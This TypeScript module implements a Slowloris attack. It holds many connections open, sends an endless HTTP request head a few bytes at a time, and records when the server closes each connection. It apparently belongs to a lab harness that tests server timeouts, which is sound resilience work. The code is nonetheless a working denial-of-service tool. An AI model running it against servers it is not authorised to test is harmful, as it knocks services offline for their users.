// Slowloris: connections that send a request head a few bytes at a time and never finish it.
// Each connection records whether and when the server closed it.
import { RawConn, type CloseInfo, type RequestSpec } from '../http/conn.js';

export interface SlowHeaderOptions {
  host: string;
  port: number;
  connections: number;
  /** bytes per write, and the pause between writes */
  chunk?: number;
  cadenceMs?: number;
  signal: AbortSignal;
  connectTimeoutMs?: number;
  /**
   * Kept-alive slowloris: send this complete request first and wait for its response
   * (up to `firstRequestTimeoutMs`, default 3000), then dribble the endless head on the same
   * connection. Without it the endless head is the connection's first request.
   */
  firstRequest?: RequestSpec;
  firstRequestTimeoutMs?: number;
}

export interface SlowHeaderConn {
  /** undefined when the connect itself failed */
  conn?: RawConn;
  connectError?: string;
  /** set when the server closed it (FIN or RST) */
  closedByServer?: CloseInfo;
  /** with `firstRequest`: the status of its response, or why there was none */
  firstStatus?: number;
  firstError?: string;
  /** ms after the connect at which the slow head began */
  headStartMs?: number;
}

/** An endless request head: a request line, then one made-up header after another. */
export function endlessHead(host: string): Buffer {
  const lines = [`GET /?slow=1 HTTP/1.1`, `Host: ${host}`, 'User-Agent: go-ha-labs-slowloris'];
  for (let i = 0; i < 2000; i++) lines.push(`X-Slow-${i}: ${'a'.repeat(8)}`);
  return Buffer.from(lines.join('\r\n') + '\r\n', 'latin1'); // never the blank line that ends a head
}

export class SlowHeaderAttack {
  readonly conns: SlowHeaderConn[] = [];
  private writers: Promise<unknown>[] = [];

  constructor(private readonly opts: SlowHeaderOptions) {}

  /** Opens the connections (all at once) and starts dribbling bytes on each. */
  async start(): Promise<void> {
    const { host, port, connections, signal } = this.opts;
    const head = endlessHead(`${host}:${port}`);
    await Promise.all(
      Array.from({ length: connections }, async () => {
        const entry: SlowHeaderConn = {};
        this.conns.push(entry);
        try {
          entry.conn = await RawConn.open(host, port, { timeoutMs: this.opts.connectTimeoutMs ?? 3000 });
        } catch (err) {
          entry.connectError = (err as { code?: string }).code ?? String(err);
          return;
        }
        const conn = entry.conn;
        conn.closed.then((c) => {
          if (c.by === 'peer-fin' || c.by === 'peer-rst') entry.closedByServer = c;
        });
        if (this.opts.firstRequest) {
          try {
            entry.firstStatus = (await conn.request(this.opts.firstRequest, this.opts.firstRequestTimeoutMs ?? 3000)).status;
          } catch (err) {
            entry.firstError = (err as { code?: string }).code ?? String(err);
            return;
          }
        }
        entry.headStartMs = conn.age();
        this.writers.push(conn.writeSlowly(head, { chunk: this.opts.chunk ?? 1, cadenceMs: this.opts.cadenceMs ?? 500, signal }));
      }),
    );
  }

  connected(): number {
    return this.conns.filter((c) => c.conn).length;
  }

  /** connections the server has closed so far */
  closedByServer(): number {
    return this.conns.filter((c) => c.closedByServer).length;
  }

  stillOpen(): number {
    return this.conns.filter((c) => c.conn && c.conn.isOpen).length;
  }

  /** the latest time (ms after its own connect) at which the server closed one of them */
  slowestCloseMs(): number | undefined {
    const t = this.conns.flatMap((c) => (c.closedByServer ? [c.closedByServer.atMs] : []));
    return t.length ? Math.max(...t) : undefined;
  }

  /** with `firstRequest`: connections whose first request was answered with a 2xx */
  firstServed(): number {
    return this.conns.filter((c) => c.firstStatus !== undefined && c.firstStatus >= 200 && c.firstStatus < 300).length;
  }

  /** the latest time (ms after its slow head began) at which the server closed one of them */
  slowestCloseAfterHeadMs(): number | undefined {
    const t = this.conns.flatMap((c) => (c.closedByServer && c.headStartMs !== undefined ? [Math.max(0, c.closedByServer.atMs - c.headStartMs)] : []));
    return t.length ? Math.max(...t) : undefined;
  }

  stop(): void {
    for (const c of this.conns) c.conn?.close();
  }
}
